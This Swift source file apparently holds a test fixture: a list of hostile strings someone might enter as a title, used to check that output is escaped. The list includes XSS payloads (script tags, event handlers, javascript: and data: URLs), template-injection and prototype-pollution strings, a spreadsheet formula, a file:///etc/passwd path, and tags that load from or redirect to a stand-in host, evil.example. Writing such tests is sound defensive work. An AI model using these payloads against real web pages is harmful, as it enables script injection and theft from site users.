/// What somebody might write into a title to have it run (web.md 6.5).
enum HostileTexts {
    static let all: [String] = [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example/x>",
        "<script/x>alert(1)</script>", "<!--<script>", "]]><script>alert(1)</script>", "</SCRIPT >", "<!--", "-->",
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>", "<body onpageshow=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>", "</style><script>alert(1)",
        "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' tabindex=0 '", "` onload=alert(1) `",
        "x\" style=\"position:fixed;inset:0", "\"><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "javascript:alert(1)", "JaVa\tScript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "//evil.example/{z}/{x}/{y}.png", "https://evil.example/?{s}", "geo:0,0?q=javascript:alert(1)",
        "file:///etc/passwd", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><foreignObject><iframe src=//evil.example>", "<svg><use href=\"data:image/svg+xml,#x\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<img src=//evil.example/p>",
        "<link rel=prefetch href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example>", "<form action=//evil.example><button>", "<style>@import '//evil.example'</style>",
        "&lt;img src=x onerror=alert(1)&gt;", "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {0} {9}",
        "\u{2028}alert(1)\u{2029}\u{202E}txt \\u003cscript>", "</title><script>alert(1)</script>", "__proto__",
        "constructor", "=HYPERLINK(\"//evil\",\"x\")", String(repeating: "A", count: 5_000),
        "👨‍👩‍👧‍👦🐕", "טיול עם הכלב",
        "\\\"};alert(1);//", "*/alert(1)/*",
    ]
}
